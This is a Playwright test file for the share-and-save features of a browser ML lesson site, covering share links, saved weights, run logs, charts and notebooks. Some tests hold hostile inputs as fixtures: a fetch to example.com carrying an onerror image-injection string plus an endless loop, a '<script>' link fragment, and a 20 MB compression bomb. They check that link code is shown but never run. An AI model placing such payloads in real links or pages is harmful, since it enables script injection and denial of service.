import { readFileSync } from 'node:fs';
import { deflateRawSync } from 'node:zlib';
import type { Download, Locator, Page } from '@playwright/test';
import { type Cell, firstCell, openCell, setCode } from './fixtures/cell.ts';
import { expect, test, waitForLivePages } from './fixtures/test.ts';

const lesson = 'lessons/sine-wave/';

/** Trains for a moment and offers a file. */
const program = `import { download, manualSeed, nn, optim, plot, tensor } from 'unrolled';
manualSeed(5);
const model = new nn.Linear(2, 1);
const optimizer = new optim.SGD(model.parameters(), { lr: 0.1 });
for (let step = 0; step < 20; step++) {
  optimizer.zeroGrad();
  const loss = model.forward(tensor([[1, 2], [3, -1]])).square().mean();
  loss.backward();
  optimizer.step();
  plot.loss(loss);
}
download('notes.txt', 'trained for 20 steps');
console.log('trained');`;

async function openPanel(cell: Cell): Promise<Locator> {
  await cell.root.getByRole('button', { name: 'Share & save' }).click();
  const panel = cell.root.getByRole('region', { name: 'Share and save' });
  await expect(panel).toBeVisible();
  return panel;
}

async function saved(page: Page, button: Locator): Promise<{ name: string; bytes: Buffer }> {
  const waiting: Promise<Download> = page.waitForEvent('download');
  await button.click();
  const download = await waiting;
  return { name: download.suggestedFilename(), bytes: readFileSync(await download.path()) };
}

/** Presses Copy link and reads what was copied. */
async function copyLink(page: Page, cell: Cell): Promise<string> {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  const panel = await openPanel(cell);
  await panel.getByRole('button', { name: 'Copy link' }).click();
  await expect(panel).toContainText('Copied: an address of');
  return page.evaluate(() => navigator.clipboard.readText());
}

/** A number as a table writes it. */
const shownNumber = (text: string) => Number(text.replaceAll('−', '-'));

const offerOf = (page: Page) => page.getByRole('region', { name: 'Code from a link' });
const editorOf = (cell: Cell) => cell.root.locator('.view-lines');
const settle = (page: Page) => page.waitForTimeout(900);

test('a link carries code and backend to another reader, who decides before anything runs', async ({
  page,
  browser,
  baseURL,
}) => {
  const cell = await openCell(page);
  await setCode(page, cell.root, "console.log('carried over');");
  const link = await copyLink(page, cell);
  expect(new URL(link).pathname).toMatch(/\/lessons\/sine-wave\/$/);
  expect(link.length).toBeLessThan(600);

  const second = await browser.newContext({ baseURL: baseURL!, serviceWorkers: 'block' });
  const elsewhere = await second.newPage();
  waitForLivePages(elsewhere);
  await elsewhere.goto(link);
  const offer = offerOf(elsewhere);
  await expect(offer).toContainText('Code from a link. It has not been run.');
  await expect(offer).toContainText('It asks for the backend wasm.');
  await expect(offer).toContainText("console.log('carried over');");
  const there = await firstCell(elsewhere);
  await expect(offer).toBeFocused();
  await expect(there.button('Run')).toHaveAttribute('aria-disabled', 'true');
  await offer.getByRole('button', { name: 'Show what differs' }).click();
  await expect(offer).toContainText("added: console.log('carried over');");
  await offer.getByRole('button', { name: 'Use it' }).click();
  await expect(offer).toHaveCount(0);
  await expect(there.button('Run')).toBeFocused();
  expect(new URL(elsewhere.url()).hash).toBe('');
  await expect(editorOf(there)).toContainText('carried over');
  await there.expectState('Ready');
  await there.button('Run').click();
  await there.expectState('Done');
  await expect(there.console).toContainText('carried over');
  await expect(there.status).toContainText('wasm');
  await second.close();
});

test('hostile code in a link is shown and not run, and the reader’s own version stays', async ({
  page,
  foreignRequests,
}) => {
  const hostile = `const leak = '<img src="https://example.com/a.png" onerror="document.title=1">';
fetch('https://example.com/?' + leak);
for (;;) {}`;
  const cell = await openCell(page);
  await setCode(page, cell.root, hostile);
  const link = await copyLink(page, cell);
  await setCode(page, cell.root, "console.log('mine');");
  await settle(page);

  await page.goto('about:blank');
  await page.goto(link);
  const offer = offerOf(page);
  await expect(offer).toContainText("fetch('https://example.com/?' + leak);");
  const title = await page.title();
  const reopened = await firstCell(page);
  // By keyboard neither.
  await reopened.button('Run').press('Enter');
  await reopened.button('Step').press('Enter');
  await page.keyboard.press('ControlOrMeta+Enter');
  await settle(page);
  await reopened.expectState('Ready');
  await expect(reopened.console).toBeEmpty();
  await expect(page.locator('img[src*="example.com"]')).toHaveCount(0);
  expect(await page.title()).toBe(title);
  expect(foreignRequests).toEqual([]);

  await offer.getByRole('button', { name: 'Keep mine' }).click();
  await expect(editorOf(reopened)).toContainText("console.log('mine');");
  await page.reload();
  const again = await firstCell(page);
  await expect(offerOf(page)).toHaveCount(0);
  await expect(again.root).toContainText("console.log('mine');");
});

test('a reader who takes a link’s code over gets the own version back, even on a later visit', async ({
  page,
}) => {
  const cell = await openCell(page);
  await setCode(page, cell.root, "console.log('theirs');");
  const link = await copyLink(page, cell);
  await setCode(page, cell.root, "console.log('mine');");
  await settle(page);
  await page.goto('about:blank');
  await page.goto(link);
  await offerOf(page).getByRole('button', { name: 'Use it' }).click();
  await expect(cell.root).toContainText("console.log('theirs');");
  await settle(page);
  await page.reload();
  const later = await firstCell(page);
  await expect(later.root).toContainText("console.log('theirs');");
  const note = later.root.getByRole('note').filter({ hasText: 'Your own version is kept' });
  await note.getByRole('button', { name: 'Back to my version' }).click();
  await expect(later.root).toContainText("console.log('mine');");
  await expect(note).toHaveCount(0);
});

const bomb = deflateRawSync(Buffer.alloc(20_000_000, 'a'), { level: 9 }).toString('base64url');

for (const [what, fragment, words] of [
  ['a corrupt link', '#shared=1.q1YqUEpMTEoGAA', /damaged or cut off/],
  ['a link that is no link', '#shared=%00<script>', /damaged or cut off/],
  ['a bomb-compressed link', `#shared=1.${bomb}`, /larger than a cell takes/],
  ['a link of a later version', '#shared=9.AAAA', /later version of the site/],
] as const) {
  test(`${what} gives one plain sentence, and the page works`, async ({ page }) => {
    await page.goto(`${lesson}?backend=wasm${fragment}`);
    const alert = page.getByRole('alert').filter({ hasText: 'link' });
    await expect(alert).toContainText(words);
    const cell = await firstCell(page);
    await cell.runToEnd("console.log('works');");
    await expect(cell.console).toContainText('works');
    await alert.getByRole('button', { name: 'Dismiss' }).click();
    await expect(alert).toHaveCount(0);
    expect(new URL(page.url()).hash).toBe('');
  });
}

test('a link for a cell that the page does not have says so', async ({ page }) => {
  const cell = await openCell(page);
  const link = await copyLink(page, cell);
  await page.goto('about:blank');
  await page.goto(link.replace('/sine-wave/', '/hidden-state/'));
  await expect(page.getByRole('alert').filter({ hasText: 'link' })).toContainText(
    'no cell for the code in this link',
  );
  await (await firstCell(page)).expectState('Ready');
});

test('weights, files, run and curves are saved when asked for, with what the run made', async ({ page }) => {
  const cell = await openCell(page);
  const downloads: string[] = [];
  page.on('download', download => downloads.push(download.suggestedFilename()));
  const panel = await openPanel(cell);
  await expect(panel.getByRole('button', { name: 'Save weights' })).toHaveAttribute('aria-disabled', 'true');
  await expect(panel.getByRole('button', { name: 'Save run' })).toHaveAttribute('aria-disabled', 'true');
  await cell.runToEnd(program);
  expect(downloads).toEqual([]);

  const files = cell.root.getByRole('region', { name: 'Files' });
  await expect(files.getByRole('listitem')).toHaveText(/notes\.txt\s*20 B\s*Save/);
  const notes = await saved(page, files.getByRole('button', { name: 'Save notes.txt' }));
  expect(notes).toEqual({ name: 'notes.txt', bytes: Buffer.from('trained for 20 steps') });

  const weights = await saved(page, panel.getByRole('button', { name: 'Save weights' }));
  expect(weights.name).toBe('sine-wave-train.safetensors');
  const length = Number(weights.bytes.readBigUInt64LE());
  const header = JSON.parse(weights.bytes.subarray(8, 8 + length).toString());
  expect(header).toEqual({
    weight: { dtype: 'F32', shape: [1, 2], data_offsets: [0, 8] },
    bias: { dtype: 'F32', shape: [1], data_offsets: [8, 12] },
  });
  expect(weights.bytes).toHaveLength(8 + length + 12);

  const json = await saved(page, panel.getByRole('button', { name: 'Save run' }));
  const run = JSON.parse(json.bytes.toString());
  expect(run).toMatchObject({
    format: 'unrolled-run',
    version: 1,
    seed: 5,
    backend: { name: 'wasm' },
    outcome: { state: 'done' },
    settings: { values: { lr: 0.1 } },
    log: [{ level: 'log', text: 'trained' }],
  });
  expect(run.code.trim()).toBe(program);
  expect(run.plots[0].series[0].y).toHaveLength(20);

  const figure = cell.figure('Loss');
  await figure.getByRole('button', { name: 'Save Loss' }).click();
  const press = (name: string) => saved(page, figure.getByRole('button', { name, exact: true }));

  const csv = (await press('CSV')).bytes.toString().trim().split('\r\n');
  expect(csv[0]).toBe('run,series,x,y');
  const points = csv.slice(1).map(line => line.split(',').slice(2).map(Number));
  expect(points.map(([, y]) => y)).toEqual(run.plots[0].series[0].y);
  const table = (await cell.data('Loss')).slice(1);
  expect(table).toHaveLength(points.length);
  for (const [i, [x, y]] of points.entries()) {
    expect(shownNumber(table[i]![0]!)).toBe(x);
    // The table rounds to the digits that it shows.
    expect(Math.abs(shownNumber(table[i]![1]!) - y!)).toBeLessThanOrEqual(Math.abs(y!) * 5e-3);
  }

  const svg = (await press('SVG')).bytes.toString();
  const drawing = await page.evaluate(text => {
    const parsed = new DOMParser().parseFromString(text, 'image/svg+xml');
    return {
      fault: parsed.querySelector('parsererror')?.textContent ?? null,
      root: parsed.documentElement.localName,
      strokes: [...parsed.querySelectorAll('path')].map(path => path.getAttribute('stroke')),
      title: parsed.querySelector('text')?.textContent,
    };
  }, svg);
  expect(drawing).toMatchObject({ fault: null, root: 'svg', title: 'Loss' });
  expect(svg).not.toMatch(/var\(|class=/);
  expect(drawing.strokes.some(stroke => /^rgb\(/.test(stroke ?? ''))).toBe(true);

  const png = (await press('PNG')).bytes;
  expect(png.subarray(0, 8)).toEqual(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
  const [width, height] = [png.readUInt32BE(16), png.readUInt32BE(20)];
  const box = /width="([\d.]+)" height="([\d.]+)"/.exec(svg)!;
  expect([width, height]).toEqual([Math.round(Number(box[1]) * 2), Math.round(Number(box[2]) * 2)]);
});

test('a stopped run hands over what it had trained, in a notebook too', async ({ page }) => {
  const cell = await openCell(page);
  await cell.run(`import { nn, optim, plot, range, tensor } from 'unrolled';
const model = new nn.Linear(1, 1);
const optimizer = new optim.SGD(model.parameters(), { lr: 0.01 });
for await (const step of range(1_000_000)) {
  optimizer.zeroGrad();
  const loss = model.forward(tensor([[1]])).square().mean();
  loss.backward();
  optimizer.step();
  plot.loss(loss);
}`);
  await cell.expectState('Running');
  await expect(cell.figure('Loss')).toBeVisible();
  await cell.stop();
  const panel = await openPanel(cell);
  await expect(panel.getByText(/safetensors with PyTorch’s names \(\d+ bytes\)/)).toBeVisible();
  const { name, bytes } = await saved(page, panel.getByRole('button', { name: 'Save notebook' }));
  expect(name).toBe('sine-wave-train.ipynb');
  const notebook = JSON.parse(bytes.toString());
  expect(notebook).toMatchObject({ nbformat: 4, nbformat_minor: 5 });
  const code = notebook.cells.filter((each: { cell_type: string }) => each.cell_type === 'code');
  const sources: string[] = code.map((each: { source: string }) => each.source);
  expect(sources.some(source => /^run_weights = "[\w+/=]{80,}"$/.test(source))).toBe(true);
  expect(sources.some(source => source.includes('load_state_dict(weights[0])'))).toBe(true);
  expect(sources.join('\n')).toContain('class SinePredictor(nn.Module)');
  expect(notebook.cells[0].source).toContain('changed program');
});
